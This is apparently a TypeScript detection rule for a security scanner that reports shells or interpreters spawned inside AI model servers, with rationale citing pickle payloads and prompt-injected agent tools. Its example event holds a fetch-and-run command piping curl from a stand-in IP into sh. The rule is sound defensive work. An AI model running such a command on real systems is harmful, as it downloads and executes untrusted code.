import { defineRule } from '../../core/rule.js';
import type { HostEventDocument } from '../../parsers/events/event-documents.js';
import { eventLog, tetragonExec } from './lib/examples.js';
import { baseName, commandLine, describePod, hostPath, INTERPRETERS, SHELLS } from './lib/process.js';

/** How Python starts its own workers (multiprocessing spawn and forkserver, torch compile workers): not a shell for a person. */
const OWN_WORKERS = /multiprocessing|spawn_main|forkserver|torch\._inductor|compile_worker|ray::|triton_python_backend/;

export default defineRule<HostEventDocument>({
  meta: {
    id: 'RT-0021',
    slug: 'shell-spawned-by-inference-server',
    title: 'Shell or interpreter started inside a model server',
    severity: 'critical',
    scanner: 'runtime',
    appliesTo: ['host-event'],
    frameworks: [
      { id: 'mitre-atlas', control: 'AML.T0050' },
      { id: 'mitre-atlas', control: 'AML.T0072' },
      { id: 'owasp-llm-2025', control: 'LLM05' },
    ],
    rationale:
      'A model server answers HTTP requests; it has no reason to start a shell, a scripting interpreter or a network tool. When it does, code is running that nobody deployed: a pickle payload in a loaded model, a prompt-injected agent tool, a server RCE (Ray Jobs API, TorchServe management). Python starting its own multiprocessing or compile workers is not reported. Model servers are recognised by image, by the pod specs seen in the audit stream and by `--context`.',
    remediation:
      'Isolate the pod (NetworkPolicy deny-all), capture it, and find the entry point: the last models loaded, the requests served, the agent tools called. Run model servers from images without shells (distroless) with a read-only root filesystem.',
    references: ['https://falco.org/docs/reference/rules/default-rules/', 'https://tetragon.io/docs/use-cases/process-lifecycle/'],
    examples: {
      bad: [
        eventLog(
          'tetragon.json',
          tetragonExec({ binary: '/bin/sh', args: '-c "curl -s http://203.0.113.9/x | sh"', parent: '/usr/bin/python3' }),
        ),
      ],
      good: [
        eventLog(
          'tetragon.json',
          tetragonExec({
            binary: '/usr/bin/python3',
            args: '-c from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7) --multiprocessing-fork',
            parent: '/usr/bin/python3',
          }),
        ),
      ],
    },
  },
  check(doc, ctx) {
    const h = doc.host;
    const target = doc.facts.target;
    if (h.type !== 'exec' || !target || target.kind !== 'model-server') return;
    const name = baseName(h.binary);
    if (!SHELLS.has(name) && !INTERPRETERS.test(name)) return;
    if (OWN_WORKERS.test(h.args ?? '')) return;
    const parent = baseName(h.parentBinary);
    ctx.report({
      at: hostPath(doc, 'binary'),
      message: `${name} started in ${describePod(doc, target)}${parent ? ` by ${parent}` : ''}: ${commandLine(doc)}`,
      evidence: commandLine(doc),
    });
  },
});
